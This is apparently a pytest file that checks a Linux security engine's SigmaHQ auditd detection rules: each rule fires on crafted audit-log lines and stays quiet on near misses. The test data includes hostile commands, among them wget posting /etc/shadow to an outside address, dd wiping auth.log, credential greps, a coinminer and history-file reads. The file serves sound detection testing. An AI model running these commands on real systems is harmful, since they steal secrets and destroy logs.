"""Audit records to alerts: every public SigmaHQ auditd rule fires on lines built to match it.

Real-shaped audit.log lines (and a few relayed by syslog) go through the file reader, the
normaliser, a real SQLite store and the detection engine's backtest with the unchanged rules
from ``sigma-rules-linux/auditd/``. Each rule has lines that must raise it and near misses
(one detail changed) that must not. The lines are written as the kernel writes them: an EXECVE
argument is quoted, or hex when it holds a space, a quote or a control character.
"""

from __future__ import annotations

from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from collectors.line_import import read_lines
from collectors.normalize import Normalizer
from collectors.records import RawRecord
from sentinel.config import DetectSettings
from sentinel.detect.engine.runner import backtest
from sentinel.detect.rulebook.pack import load_rule_pack
from sentinel.events import Event
from sentinel.inventory import Inventory
from sentinel.store.sqlite import SqliteStore

T0 = int(datetime(2026, 11, 1, tzinfo=UTC).timestamp())
_serial = iter(range(1000, 1_000_000))


def _arg(value: str) -> str:
    """How the kernel writes an untrusted string: quoted when plain, else hex."""
    if any(c < "!" or c > "~" or c == '"' for c in value):
        return value.encode().hex().upper()
    return f'"{value}"'


def ex(*args: str) -> str:
    body = " ".join(f"a{i}={_arg(a)}" for i, a in enumerate(args))
    return f"type=EXECVE msg=audit(@): argc={len(args)} {body}"


def sc(syscall: int = 59, *, exe: str = "/usr/bin/true", comm: str = "true", key: str = "(null)", **kw: str) -> str:
    fields = {"a0": "7ffd0", "a1": "7ffd8", "a2": "0", "a3": "0", "euid": "0", "uid": "0"} | kw
    keytext = key if key == "(null)" else f'"{key}"'
    return (
        f"type=SYSCALL msg=audit(@): arch=c000003e syscall={syscall} success=yes exit=0 a0={fields['a0']} "
        f"a1={fields['a1']} a2={fields['a2']} a3={fields['a3']} items=1 ppid=900 pid=901 auid=1000 "
        f"uid={fields['uid']} gid=0 euid={fields['euid']} suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=2 "
        f'comm="{comm}" exe="{exe}" subj=unconfined key={keytext}'
    )


def path(name: str, nametype: str = "NORMAL") -> str:
    return (
        f'type=PATH msg=audit(@): item=0 name="{name}" inode=1311 dev=08:01 mode=0100644 ouid=0 ogid=0 '
        f"rdev=00:00 nametype={nametype} cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0"
    )


def user(rtype: str, inner: str) -> str:
    return f"type={rtype} msg=audit(@): pid=1 uid=0 auid=4294967295 ses=4294967295 subj=unconfined msg='{inner}'"


def service(unit: str) -> str:
    return f'unit={unit} comm="systemd" exe="/usr/lib/systemd/systemd" hostname=? addr=? terminal=? res=success'


@dataclass(frozen=True)
class Case:
    rule: str  # the rule file's stem
    match: tuple[str, ...]
    near: tuple[str, ...]


def case(rule: str, match: str | tuple[str, ...], near: str | tuple[str, ...]) -> Case:
    return Case(rule, match if isinstance(match, tuple) else (match,), near if isinstance(near, tuple) else (near,))


CASES = [
    # execve/
    case("lnx_auditd_binary_padding", ex("truncate", "-s", "+5M", "/usr/bin/ls"), ex("dd", "if=/dev/zero", "of=/x")),
    case(
        "lnx_auditd_bpfdoor_port_redirect",
        ex(
            "/sbin/iptables",
            "-t",
            "nat",
            "-A",
            "PREROUTING",
            "-p",
            "tcp",
            "--dport",
            "443",
            "-j",
            "REDIRECT",
            "--to-ports",
            "42391",
        ),
        ex("/sbin/iptables", "-t", "nat", "-A", "PREROUTING", "-j", "REDIRECT", "--to-ports", "8080"),
    ),
    case("lnx_auditd_capabilities_discovery", ex("getcap", "-r", "/"), ex("getcap", "/usr/bin/ping")),
    case("lnx_auditd_change_file_time_attr", ex("touch", "-t", "202001010000", "/tmp/x"), ex("touch", "/tmp/new")),
    case("lnx_auditd_chattr_immutable_removal", ex("chattr", "-i", "/etc/passwd"), ex("chattr", "+a", "/var/log/x")),
    case(
        "lnx_auditd_clipboard_collection",
        ex("xclip", "-selection", "clipboard", "-o"),
        ex("xclip", "-selection", "clipboard", "-in"),
    ),
    case(
        "lnx_auditd_clipboard_image_collection",
        ex("xclip", "-sel", "clip", "-t", "image/png", "-o"),
        ex("xclip", "-sel", "clip", "-t", "text/plain", "-o"),
    ),
    case("lnx_auditd_coinminer", ex("xmrig", "-o", "pool:3333", "--cpu-priority", "5"), ex("xmrig", "--version")),
    case("lnx_auditd_data_compressed", ex("tar", "-czf", "/tmp/a.tgz", "/etc"), ex("tar", "-xzf", "/tmp/a.tgz")),
    case(
        "lnx_auditd_data_exfil_wget",
        ex("wget", "--post-file=/etc/shadow", "http://198.51.100.9/"),
        ex("wget", "http://198.51.100.9/index.html"),
    ),
    case("lnx_auditd_dd_delete_file", ex("dd", "if=/dev/zero", "of=/var/log/auth.log"), ex("dd", "if=/dev/sda")),
    case("lnx_auditd_file_or_folder_permissions", ex("chmod", "+x", "/tmp/run.sh"), ex("ls", "-l", "/tmp")),
    case(  # the pattern has a space, so the kernel hex-encodes it: found in the decoded message
        "lnx_auditd_find_cred_in_files",
        ex("grep", "-ri", "db password", "/etc"),
        ex("grep", "-ri", "db token", "/etc"),
    ),
    case("lnx_auditd_hidden_files_directories", ex("mkdir", "/tmp/.hidden"), ex("mkdir", "/tmp/visible")),
    case(
        "lnx_auditd_hidden_zip_files_steganography",
        ex("cat", "photo.jpg", "secret.zip"),
        ex("cat", "photo.jpg", "notes.txt"),
    ),
    case("lnx_auditd_masquerading_crond", ex("cp", "/bin/sh", "/tmp/crond"), ex("cp", "/bin/sh", "/tmp/shell")),
    case("lnx_auditd_modify_system_firewall", ex("ufw", "delete", "allow", "22"), ex("ufw", "status")),
    case("lnx_auditd_network_sniffing", ex("tcpdump", "-c", "100", "-i", "eth0"), ex("tcpdump", "-r", "x.pcap")),
    case(
        "lnx_auditd_screencapture_import",
        (ex("import", "-window", "root", "/tmp/s.png"), ex("import", "/tmp/shot.jpeg")),
        ex("import", "-window", "root", "/tmp/s.txt"),
    ),
    case(
        "lnx_auditd_screencaputre_xwd",
        ex("xwd", "-root", "-out", "/tmp/s.xwd"),
        ex("xwd", "-root", "-out", "/tmp/s.png"),
    ),
    case(
        "lnx_auditd_steghide_embed_steganography",
        ex("steghide", "embed", "-cf", "cover.jpg", "-ef", "secret.txt"),
        ex("steghide", "info", "cover.jpg"),
    ),
    case(
        "lnx_auditd_steghide_extract_steganography",
        ex("steghide", "extract", "-sf", "cover.jpg"),
        ex("steghide", "extract", "-sf", "cover.bmp"),
    ),
    case("lnx_auditd_susp_cmds", ex("chmod", "777", "/tmp/x"), ex("chmod", "755", "/tmp/x")),
    case("lnx_auditd_susp_histfile_operations", ex("cat", "/root/.bash_history"), ex("cat", "/root/notes.txt")),
    case(
        "lnx_auditd_susp_service_reload_or_restart",
        ex("systemctl", "restart", "nginx"),
        ex("systemctl", "status", "nginx"),
    ),
    case("lnx_auditd_system_shutdown_reboot", ex("shutdown", "-h", "now"), ex("uptime")),
    case("lnx_auditd_unzip_hidden_zip_files_steganography", ex("unzip", "photo.jpg"), ex("unzip", "archive.zip")),
    case("lnx_auditd_user_discovery", ex("whoami"), ex("ls")),
    # top level
    case(
        "lnx_auditd_audio_capture",
        (ex("arecord", "-vv", "-fdat", "/tmp/rec.wav"), sc(319, exe="/usr/bin/ecasound", comm="ecasound")),
        (ex("arecord", "-l"), sc(319, exe="/usr/bin/firefox", comm="firefox")),  # 319: memfd_create on x86_64
    ),
    case(
        "lnx_auditd_disable_aslr_protection",
        (sc(135, a0="40000"), ex("sysctl", "-w", "kernel.randomize_va_space=0")),  # 135: personality
        (sc(135, a0="0"), ex("sysctl", "-w", "kernel.randomize_va_space=2")),
    ),
    case(
        "lnx_auditd_keylogging_with_pam_d",
        (path("/etc/pam.d/system-auth"), user("USER_TTY", 'data="ls"')),
        path("/etc/pam.d/sshd"),
    ),
    case(
        "lnx_auditd_password_policy_discovery",
        (path("/etc/login.defs"), ex("chage", "-l", "alice")),
        (path("/etc/hosts"), ex("chage", "-M", "90", "alice")),
    ),
    case(
        "lnx_auditd_susp_c2_commands",
        sc(exe="/usr/bin/wget", comm="wget", key="susp_activity"),
        sc(exe="/usr/bin/wget", comm="wget", key="exec"),
    ),
    case(
        "lnx_auditd_system_info_discovery",
        (path("/etc/issue"), ex("uname", "-a"), ex("grep", "virtio", "/proc/cpuinfo")),
        ex("grep", "error", "/var/log/syslog"),
    ),
    # path/
    case("lnx_auditd_auditing_config_change", path("/etc/audit/auditd.conf"), path("/etc/auditd-notes.txt")),
    case("lnx_auditd_bpfdoor_file_accessed", path("/var/run/haldrund.pid"), path("/var/run/sshd.pid")),
    case("lnx_auditd_hidden_binary_execution", path("/tmp/.x/payload"), path("/home/a/.cache/pip/wheel")),
    case("lnx_auditd_ld_so_preload_mod", path("/etc/ld.so.preload"), path("/etc/ld.so.conf")),
    case("lnx_auditd_logging_config_change", path("/etc/rsyslog.conf"), path("/etc/rsyslog.d/50-default.conf")),
    case("lnx_auditd_magic_system_request_key", path("/proc/sysrq-trigger"), path("/proc/cpuinfo")),
    case("lnx_auditd_system_info_discovery2", path("/sys/class/dmi/id/product_name"), path("/sys/class/net/lo")),
    case(
        "lnx_auditd_systemd_service_creation",
        path("/etc/systemd/system/evil.service", "CREATE"),
        path("/etc/systemd/system/evil.service", "NORMAL"),
    ),
    case("lnx_auditd_unix_shell_configuration_modification", path("/home/alice/.bashrc"), path("/home/alice/.vimrc")),
    # service_stop/: the file form, and as journald and the kernel relay it through syslog
    case(
        "lnx_auditd_disable_system_firewall",
        (
            user("SERVICE_STOP", service("firewalld")),
            "<38>1 @ web1 audit 1 - - SERVICE_STOP pid=1 uid=0 auid=4294967295 ses=4294967295 msg='"
            + service("ufw")
            + "'",
            "<4>1 @ web1 kernel - - - audit: type=1131 audit(@): pid=1 uid=0 auid=4294967295 ses=4294967295 msg='"
            + service("iptables")
            + "'",
        ),
        (user("SERVICE_STOP", service("nginx")), user("SERVICE_START", service("firewalld"))),
    ),
    # syscall/ (RAW syscall numbers of x86_64; web_rce also in the ENRICHED form)
    case("lnx_auditd_clean_disable_dmesg_logs_via_syslog", sc(103, a0="4"), sc(103, a0="3")),  # 103: syslog
    case(
        "lnx_auditd_create_account",
        (
            sc(exe="/usr/sbin/useradd", comm="useradd"),
            user(
                "ADD_USER",
                'op=adding user id=1001 exe="/usr/sbin/useradd" hostname=? addr=? terminal=pts/0 res=success',
            ),
        ),
        sc(exe="/usr/sbin/usermod", comm="usermod"),
    ),
    case(
        "lnx_auditd_load_module_insmod",
        sc(175, exe="/usr/bin/kmod", comm="insmod"),
        sc(175, exe="/usr/bin/kmod", comm="modprobe"),
    ),
    case(
        "lnx_auditd_network_service_scanning",
        sc(42, exe="/usr/bin/nmap", comm="nmap", key="network_connect_4"),
        sc(42, exe="/usr/bin/curl", comm="curl", key="network_connect_4"),
    ),
    case(
        "lnx_auditd_split_file_into_pieces",
        sc(exe="/usr/bin/split", comm="split"),
        sc(exe="/usr/bin/sort", comm="sort"),
    ),
    case(
        "lnx_auditd_susp_discovery_sysinfo_syscall",
        sc(99, exe="/usr/bin/python3", comm="python3"),  # 99: sysinfo
        sc(99, exe="/opt/splunk/bin/splunkd", comm="splunkd"),
    ),
    case("lnx_auditd_susp_exe_folders", sc(exe="/tmp/x/payload", comm="payload"), sc(exe="/usr/bin/ls", comm="ls")),
    case("lnx_auditd_susp_special_file_creation_via_mknod_syscall", sc(133), sc(259)),  # mknod, not mknodat
    case(
        "lnx_auditd_web_rce",
        (sc(59, euid="33", uid="33"), sc(322, euid="33") + '\x1dARCH=x86_64 SYSCALL=execveat EUID="www-data"'),
        sc(59, euid="1000", uid="1000"),
    ),
]


def _stamp(line: str, at: int) -> str:
    """Put the time in: ``audit(@)`` gets epoch and serial, a syslog ``@`` an RFC 3339 time."""
    line = line.replace("audit(@)", f"audit({at}.250:{next(_serial)})")
    if line.startswith("<"):
        line = line.replace(" @ ", " " + datetime.fromtimestamp(at, UTC).strftime("%Y-%m-%dT%H:%M:%S.250Z") + " ", 1)
    return line


@pytest.mark.shared_data
def test_every_auditd_rule_fires_on_its_lines_and_not_on_near_misses(shared_data: Path, tmp_path: Path) -> None:
    folder = shared_data / "sigma-rules-linux" / "auditd"
    pack = load_rule_pack([folder])
    assert pack.errors == []
    by_stem = {r.path.stem: r for r in pack.rules if r.path is not None}
    assert sorted(by_stem) == sorted(c.rule for c in CASES), "one case per rule file"

    # Each rule's lines in their own hour, its near misses in the next: alerts never mix two cases.
    file_lines: list[str] = []
    syslog_lines: list[str] = []
    expected: list[tuple[str, str, bool]] = []  # (rule stem, line, must fire)
    for i, c in enumerate(CASES):
        for must, lines, base in ((True, c.match, T0 + i * 7200), (False, c.near, T0 + i * 7200 + 3600)):
            for k, line in enumerate(lines):
                stamped = _stamp(line, base + k)
                (syslog_lines if stamped.startswith("<") else file_lines).append(stamped)
                expected.append((c.rule, stamped, must))
    audit_log = tmp_path / "audit.log"
    audit_log.write_text("".join(line + "\n" for line in file_lines), encoding="utf-8")

    normalizer = Normalizer(Inventory([]))
    events: list[Event] = []
    for record in read_lines(audit_log, dataset_hint="auditd.log"):  # sentinel ingest --dataset auditd.log
        assert isinstance(record, RawRecord)
        events.append(normalizer.normalize(record))
    for n, line in enumerate(syslog_lines):
        raw = RawRecord(raw=line.encode(), received_at=T0 + 200_000, origin=f"udp:{n}", transport="udp")
        events.append(normalizer.normalize(raw))
    assert {e.dataset for e in events} == {"auditd.log"}
    id_of = {e.doc["event"]["original"]: e.id for e in events}

    store = SqliteStore(tmp_path / "sentinel.db")
    store.setup()
    try:
        assert store.write_events(events).created == len(events)
        start = datetime.fromtimestamp(T0, UTC) - timedelta(hours=1)
        end = datetime.fromtimestamp(T0 + len(CASES) * 7200, UTC) + timedelta(hours=1)
        alerts, reports, errors = backtest(store, pack, DetectSettings(), Inventory([]), start, end)
    finally:
        store.close()
    assert errors == []
    assert not [r.error for r in reports if r.error]
    fired: dict[str, set[str]] = {}
    for alert in alerts:
        assert alert.count == len(alert.sample_event_ids), "every matching event is listed"
        fired.setdefault(alert.rule_id, set()).update(alert.sample_event_ids)
    missed = [
        (stem, line) for stem, line, must in expected if must and id_of[line] not in fired.get(by_stem[stem].id, set())
    ]
    wrong = [
        (stem, line) for stem, line, must in expected if not must and id_of[line] in fired.get(by_stem[stem].id, set())
    ]
    assert missed == []
    assert wrong == []
    print(f"\nauditd rules: {len(pack.rules)} loaded, {len({s for s, _, m in expected if m})} fired on their lines")
